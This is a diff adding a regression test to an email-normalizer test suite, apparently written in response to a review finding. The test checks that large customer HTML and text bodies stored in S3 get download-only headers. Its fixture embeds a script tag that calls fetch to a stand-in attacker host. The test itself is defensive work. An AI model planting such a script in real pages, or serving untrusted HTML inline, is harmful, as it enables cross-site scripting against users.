@@ -1,9 +1,12 @@
 import { describe, expect, it } from 'vitest';
+import { S3BlobStore } from '#shared/aws/blob-store.ts';
+import { SignedS3BlobStore } from '#shared/aws/signed/s3.ts';
 import { normalizeInboundEmail } from '#shared/channels/email/inbound/normalize.ts';
 import { replyTagFor } from '#shared/channels/email/reply-address.ts';
 import { LOCAL_DEV_SECRETS } from '#shared/config/secrets.ts';
 import { emailThreadConversationId, type HubEvent, HubEventSchema } from '#shared/contract/index.ts';
 import { FIXTURE_RECEIVED_AT } from '#tests/support/requests.ts';
+import { ORACLE_ENV } from '#tests/support/signed-oracle.ts';
 
 const SUPPORT = 'support@switchboard.example';
 const context = (envelopeRecipients: string[] = [SUPPORT]) => ({
@@ -398,6 +401,75 @@ describe('normalizeInboundEmail', () => {
       'gęślą',
     );
     expect(Buffer.byteLength(JSON.stringify(event))).toBeLessThan(1024 * 1024);
+  });
+
+  it('stores bodies moved to the bucket as downloads: the HTML as application/octet-stream body.html, the text as body.txt, through the SDK and the signed put alike', async () => {
+    // Prepare: a customer's HTML with a script, and its text, each over 256 KiB (found by a review:
+    // the HTML was stored inline `text/html`, so a presigned GET of htmlBodyKey ran the script on the bucket's origin)
+    const filler = `<p>${'lorem ipsum '.repeat(40)}</p>\r\n`.repeat(700);
+    const html = `<!doctype html><html><body><script>fetch('https://attacker.example/')</script>${filler}</body></html>`;
+    const text = `${'Plain words of the same mail. '.repeat(10_000)}\r\n`;
+    const raw = Buffer.from(
+      [
+        'From: a@customer.example',
+        `To: ${SUPPORT}`,
+        'Message-ID: <big-html@customer.example>',
+        'MIME-Version: 1.0',
+        'Content-Type: multipart/alternative; boundary="alt"',
+        '',
+        '--alt',
+        'Content-Type: text/plain; charset=utf-8',
+        '',
+        text,
+        '--alt',
+        'Content-Type: text/html; charset=utf-8',
+        '',
+        html,
+        '--alt--',
+        '',
+      ].join('\r\n'),
+    );
+    const sent: Record<string, unknown>[] = [];
+    const sdkStore = new S3BlobStore(
+      {
+        send: async (command: { input: Record<string, unknown> }) => {
+          sent.push(command.input);
+          return {};
+        },
+      } as never,
+      'payloads',
+    );
+    const signedStore = new SignedS3BlobStore({ bucket: 'payloads', env: ORACLE_ENV });
+    // Act
+    const { events, blobs } = await normalizeInboundEmail(raw, context());
+    const email = messageOf(events).data.email;
+    const stored = [email?.htmlBodyKey, email?.textBodyKey].map((key) =>
+      blobs.find((blob) => blob.key === key),
+    );
+    for (const blob of stored) if (blob) await sdkStore.put(blob);
+    const signed = stored.map((blob) => (blob ? signedStore.signedPut(blob).headers : {}));
+    // Assess
+    expect(email?.htmlBodyKey).toMatch(/^bodies\/.+\/[0-9a-f]{64}\.html$/);
+    expect(email?.textBodyKey).toMatch(/^bodies\/.+\/[0-9a-f]{64}\.txt$/);
+    expect(stored.map((blob) => [blob?.contentType, blob?.contentDisposition])).toEqual([
+      ['application/octet-stream', 'attachment; filename="body.html"'],
+      ['text/plain; charset=utf-8', 'attachment; filename="body.txt"'],
+    ]);
+    // The customer's HTML itself: only the object's headers are neutralized
+    expect(
+      Buffer.from(stored[0]?.bytes ?? [])
+        .toString('utf8')
+        .startsWith(html.slice(0, 120)),
+    ).toBe(true);
+    expect(sent.map((input) => [input.ContentType, input.ContentDisposition])).toEqual([
+      ['application/octet-stream', 'attachment; filename="body.html"'],
+      ['text/plain; charset=utf-8', 'attachment; filename="body.txt"'],
+    ]);
+    expect(signed.map((headers) => [headers['content-type'], headers['content-disposition']])).toEqual([
+      ['application/octet-stream', 'attachment; filename="body.html"'],
+      ['text/plain; charset=utf-8', 'attachment; filename="body.txt"'],
+    ]);
+    expect(signed[0]?.authorization).toContain('content-disposition;content-length;content-type;');
   });
 
   it('passes on an e-mail without any sender as an unsupported event with its raw MIME stored', async () => {
